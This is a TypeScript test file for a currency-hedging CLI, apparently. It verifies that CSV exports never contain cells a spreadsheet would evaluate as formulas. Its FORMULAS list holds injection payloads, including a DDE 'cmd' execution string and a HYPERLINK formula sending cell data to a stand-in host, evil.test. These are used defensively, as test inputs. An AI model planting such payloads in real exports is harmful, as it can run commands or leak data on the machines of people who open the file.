/**
 * S7: no cell of an export is taken for a formula by a spreadsheet, whatever the service, the operator or by somebody else
 * wrote: a checker with the spreadsheets' own rule reads every list that goes to a file.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { wayTo } from '../support/cli-for.ts';
import { csvLines } from '../support/csv.ts';
import { expectHeld, spread } from '../support/goal.ts';
import { type HostileService, hostileService } from '../support/hostile-service.ts';
import { testCli } from '../support/test-cli.ts';

let service: HostileService;
beforeAll(async () => {
  service = await hostileService();
});
afterAll(() => service.close());

/** Begins what a spreadsheet works out. */
const FORMULAS: readonly string[] = [
  "=cmd|' /C calc'!A1",
  '=HYPERLINK("https://evil.test?"&A1,"x")',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1',
  "'=1+1",
  '","=1+1',
  '"\n=1+1',
  ' =1+1',
  ';=1+1',
  '-',
  '-1e5x',
  '\u0000=1+1',
  '\ufeff=1+1',
];

const LISTS: readonly string[] = [
  'markets --csv',
  'price --csv',
  'quote USDTNGN buy 10000 --csv',
  'hedges --csv',
  'history --csv',
  'history --by market --csv',
  'positions --csv',
  'journal --csv',
  'hedges --query data[].{id:id,ref:client_reference} --output csv',
];

/** The rule of spreadsheets: these begin a formula, unless the whole cell is a number. */
const isFormula = (cell: string): boolean =>
  /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/u.test(cell) && !/^-?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?$/.test(cell);

const formulasIn = (csv: string): readonly string[] => csvLines(csv).flat().filter(isFormula);

describe('an export', () => {
  it('has no cell that a spreadsheet would work out', async () => {
    const wrong: string[] = [];
    const tried = spread(FORMULAS, 3);
    let cells = 0;
    for (const formula of tried) {
      const cli = testCli();
      const env = wayTo(service, cli.home);
      service.become({ says: (harmless) => formula + harmless });
      await cli.run(['open', 'USDTNGN', 'buy', '1000', '--tenor', '3', '--yes', '--no-wait'], { env });
      for (const line of LISTS) {
        const { code, out, err } = await cli.run(line, { env });
        if (code !== 0)
          wrong.push(`${line} with ${JSON.stringify(formula)} ended with ${code.toString()}: ${err}`);
        cells += csvLines(out).flat().length;
        wrong.push(...formulasIn(out).map((cell) => `${line}: ${JSON.stringify(cell)}`));
      }
    }
    expect(cells).toBeGreaterThan(tried.length * 100);
    expectHeld('S7 formulas in exports', { runs: tried.length * LISTS.length, wrong });
  });

  it.each(['=1', '+1+1', '-1+1', '@x', '\tx', '-', '"＝1"'])('would be found out by %j', (cell) => {
    expect(formulasIn(`a,b\n1,${cell}\n`)).toHaveLength(1);
  });

  it.each(['-1', '-1.5', '1', "'=1", 'x', '-2e-7'])('may have %j', (cell) => {
    expect(formulasIn(`a,b\n1,${cell}\n`)).toEqual([]);
  });
});
